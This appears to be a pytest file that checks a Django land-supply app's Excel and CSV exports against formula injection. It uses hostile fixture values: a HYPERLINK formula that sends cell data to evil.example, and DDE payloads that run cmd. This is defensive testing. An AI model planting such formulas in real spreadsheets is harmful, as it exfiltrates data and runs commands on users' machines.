"""Formula-safe writing (landsupply.exports) and every download that uses it: user text that
starts with = + - @ or a control character reaches the file as plain text, numbers stay
numbers."""

import csv
import datetime
import io
import tempfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from landsupply import exports
from landsupply.exports import Sheet, formula_like, xlsx_bytes
from parcels.models import ParcelImport
from tests.factories import ContractFactory, ParcelFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "+1+cmd|x", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]


def workbook(response):
    return load_workbook(io.BytesIO(response.getvalue()))


def assert_plain_text(cell, text):
    # A CR is written as Excel writes it, _x000D_, which Excel and python-calamine read back;
    # openpyxl leaves such escapes as they are.
    assert unescape(cell.value) == text
    assert cell.data_type == "s"  # a string cell, not a formula
    assert cell.quotePrefix is True  # Excel keeps it text when the cell is edited


def find(sheet, text):
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == text:
                return cell
    raise AssertionError(f"{text!r} not in sheet {sheet.title}")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_written_as_plain_text(text):
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["h"], [[text]])])))
    assert_plain_text(book["s"]["A2"], text)


@pytest.mark.parametrize(
    ("text", "risky"),
    [("=1", True), ("+", True), ("-x", True), ("@", True), ("\x1f", True), ("\x7f", True),
     (" =1", False), ("a=1", False), ("＝1", False), ("", False), ("地块", False)],
)  # fmt: skip
def test_formula_like_boundaries(text, risky):
    assert formula_like(text) is risky


def test_numbers_dates_and_plain_text_keep_their_type():
    when = datetime.datetime(2026, 3, 2, 12, 0, tzinfo=datetime.UTC)
    book = load_workbook(
        io.BytesIO(
            xlsx_bytes(
                [Sheet("s", ["h"], [[Decimal("-5.5"), -3, datetime.date(2024, 6, 30), when,
                                     "地块", Decimal("NaN"), "a\x00b"]])]
            )
        )
    )  # fmt: skip
    row = [c for c in book["s"][2]]
    assert (row[0].value, row[0].data_type) == (-5.5, "n")
    assert (row[1].value, row[1].data_type) == (-3, "n")
    assert row[2].value.date() == datetime.date(2024, 6, 30)
    assert row[2].number_format == "yyyy-mm-dd"
    assert row[3].value == datetime.datetime(2026, 3, 2, 20, 0)  # Asia/Shanghai, no zone
    assert row[3].number_format == "yyyy-mm-dd h:mm:ss"
    assert (row[4].value, row[4].quotePrefix) == ("地块", False)
    assert row[5].value == "NaN"
    assert row[6].value == "a\ufffdb"  # .xlsx cannot hold a NUL


def test_headers_widths_titles_sheets_and_text_read_back_as_written():
    content = xlsx_bytes(
        [
            Sheet(
                "一" * 40,
                ["名称", "=h", 3],
                [["a\rb", "_x0041_", " x "], ["", None, "z"]],
                widths=[20, 0],
            ),
            Sheet("二", [], [[1.5, float("inf"), True]]),
        ]
    )
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["一" * 31, "二"]  # titles cut to Excel's 31 characters
    first = book.worksheets[0]
    assert first["A1"].font.bold is True and first["B1"].font.bold is True
    assert_plain_text(first["B1"], "=h")  # a header is formula-safe too
    assert (first["C1"].value, first["C1"].data_type) == (3, "n")
    assert first.column_dimensions["A"].width == pytest.approx(20, abs=1)
    assert first["A3"].value is None  # empty text is an empty cell, as openpyxl wrote it
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert calamine.get_sheet_by_index(0).to_python()[1:] == [
        ["a\rb", "_x0041_", " x "],
        ["", "", "z"],
    ]
    assert calamine.get_sheet_by_index(1).to_python() == [[1.5, "inf", "是"]]


def test_a_sheet_never_loses_rows_past_excels_limit(monkeypatch):
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    assert xlsx_bytes([Sheet("s", ["h"], [[1], [2]])])  # three rows: the limit
    with pytest.raises(ValueError, match="rows for one .xlsx sheet"):
        xlsx_bytes([Sheet("s", ["h"], [[1], [2], [3]])])


def test_a_failed_workbook_leaves_no_temporary_files(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield ["a"] * 5
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        xlsx_bytes([Sheet("s", ["h"], rows())])
    xlsx_bytes([Sheet("s", ["h"], [["a"]])])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.django_db
def test_parcel_export_xlsx_and_csv(client, beijing):
    ParcelFactory(
        district=beijing["haidian"],
        code="-HD-1",
        name=HYPERLINK,
        location="+cmd|' /C calc'!A0",
        awardee="@SUM(1)",
        key_function_area_name="\t=1+1",
        area_ha=Decimal("2.5"),
    )
    client.force_login(beijing["haidian_user"])

    sheet = workbook(client.get(reverse("parcels:export"))).worksheets[0]
    for text in ["-HD-1", HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1"]:
        assert_plain_text(find(sheet, text), text)
    assert find(sheet, 2.5).data_type == "n"

    response = client.get(reverse("parcels:export_csv"))
    text = response.getvalue().decode("utf-8")
    assert text.startswith("\ufeff地块编号,")
    row = next(r for r in csv.reader(io.StringIO(text[1:])) if r[0].endswith("HD-1"))
    assert row[0] == "'-HD-1" and row[1] == "'" + HYPERLINK and row[3] == "'+cmd|' /C calc'!A0"
    assert "2.5000" in row  # numbers are not prefixed


@pytest.mark.django_db
def test_contract_register(client, beijing):
    ContractFactory(parcel__district=beijing["haidian"], enterprise__name=DDE, number="@HD-1")
    client.force_login(beijing["haidian_user"])

    sheet = workbook(client.get(reverse("assessments:register_export")))["先租后让合同台账"]

    assert_plain_text(find(sheet, DDE), DDE)
    assert_plain_text(find(sheet, "@HD-1"), "@HD-1")
    assert find(sheet, 7_500_000).data_type == "n"


@pytest.mark.django_db
def test_plan_report_and_plan_template(client, beijing):
    from plans.models import AnnualPlan, CategoryTarget, PolicyRatioTarget
    from plans.seed import seed_plans

    seed_plans()
    plan = AnnualPlan.objects.get(jurisdiction__code="beijing", year=2024)
    top = CategoryTarget.objects.filter(plan=plan, parent__isnull=True).first()  # no indent
    CategoryTarget.objects.filter(pk=top.pk).update(name=HYPERLINK)
    ratio = PolicyRatioTarget.objects.filter(plan=plan).first()
    ratio.citation = "-1+cmd|x"
    ratio.save()
    client.force_login(beijing["city_user"])

    report = workbook(client.get(reverse("plans:report_export"), {"plan": plan.pk}))
    assert report.sheetnames == ["用地类型", "圈层", "政策比例", "季度节点", "各区"]
    assert_plain_text(find(report["用地类型"], HYPERLINK), HYPERLINK)
    assert_plain_text(find(report["政策比例"], "-1+cmd|x"), "-1+cmd|x")

    template = workbook(client.get(reverse("plans:plan_import_template")))
    assert_plain_text(find(template["计划"], HYPERLINK), HYPERLINK)
    assert_plain_text(find(template["计划"], "-1+cmd|x"), "-1+cmd|x")


@pytest.mark.django_db
def test_import_error_download_and_ledger_template(client, beijing):
    user = beijing["haidian_user"]
    parcel_import = ParcelImport.objects.create(
        user=user,
        original_name="a.csv",
        status=ParcelImport.Status.INVALID,
        errors=[{"row": 2, "column": "=HYPERLINK(1)", "message": DDE}],
    )
    client.force_login(user)

    sheet = workbook(client.get(reverse("parcels:import_errors", args=[parcel_import.pk])))["错误"]
    assert [c.value for c in sheet[1]] == ["行", "列", "错误"]
    assert sheet["A2"].value == 2
    assert_plain_text(sheet["B2"], "=HYPERLINK(1)")
    assert_plain_text(sheet["C2"], DDE)

    template = workbook(client.get(reverse("parcels:import_template")))
    assert template.sheetnames == ["地块台账", "填写说明"]
    assert template["地块台账"]["A1"].font.bold is True
